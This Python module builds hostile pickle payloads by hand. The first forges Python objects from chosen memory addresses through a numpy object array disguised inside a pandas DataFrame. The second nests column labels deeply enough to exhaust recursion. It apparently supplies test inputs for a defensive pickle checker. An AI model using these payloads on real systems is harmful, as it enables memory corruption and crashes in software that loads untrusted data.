"""Pickles that nobody writes but to do harm, opcode by opcode."""

import pickle
import struct


def addresses_as_objects(addresses: bytes, flags: int) -> bytes:
    """Return a table whose ids are objects at addresses of the pickle's choice.

    With `flags` 0, its dtype of objects denies that it holds any.
    """
    number, order = _int(3), _text("|")
    dtype = _call("numpy", "dtype", _text("O8") + FALSE + TRUE)
    dtype += b"(" + number + order + NONE * 3 + _int(-1) * 2 + _int(flags) + b"tb"
    shape = b"(" + _int(1) + _int(1) + b"t"
    array = _call(
        "numpy.core.multiarray",
        "_reconstruct",
        _global("numpy", "ndarray") + b"(" + _int(0) + b"t" + _bytes(b"b"),
    )
    array += b"(" + _int(1) + shape + dtype + FALSE + _bytes(addresses) + b"tb"
    names = b"](" + b"".join(map(_text, ["id", "text", "embedding"])) + b"e"
    others = b"](](" + _text("a") + b"e](](" + _int(1) + b"eee"
    return _frame(_block(array, 0, 1) + _block(others, 1, 3), names)


def deeply_nested_labels(depth: int) -> bytes:
    """Return a table whose columns' names are lists of lists of lists …"""
    return _frame(b"", b"](" * depth + b"e" * depth)


NONE, TRUE, FALSE = pickle.NONE, pickle.NEWTRUE, pickle.NEWFALSE


def _frame(blocks: bytes, names: bytes) -> bytes:
    index = _call(
        "pandas.core.indexes.base",
        "_new_Index",
        _global("pandas.core.indexes.base", "Index")
        + b"}"
        + _text("data")
        + names
        + b"s",
    )
    manager = _call(
        "pandas.core.internals.managers",
        "BlockManager",
        b"(" + blocks + b"t](" + index + b"e",
    )
    frame = _call("pandas.core.frame", "DataFrame", b"")
    return b"\x80\x04" + frame + b"}" + _text("_mgr") + manager + b"sb."


def _block(values: bytes, first: int, end: int) -> bytes:
    places = _call("builtins", "slice", _int(first) + _int(end) + _int(1))
    return _call("pandas._libs.internals", "_unpickle_block", values + places + _int(2))


def _call(module: str, name: str, arguments: bytes) -> bytes:
    return _global(module, name) + b"(" + arguments + b"tR"


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _text(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def _bytes(content: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(content)) + content


def _int(number: int) -> bytes:
    return b"J" + struct.pack("<i", number)
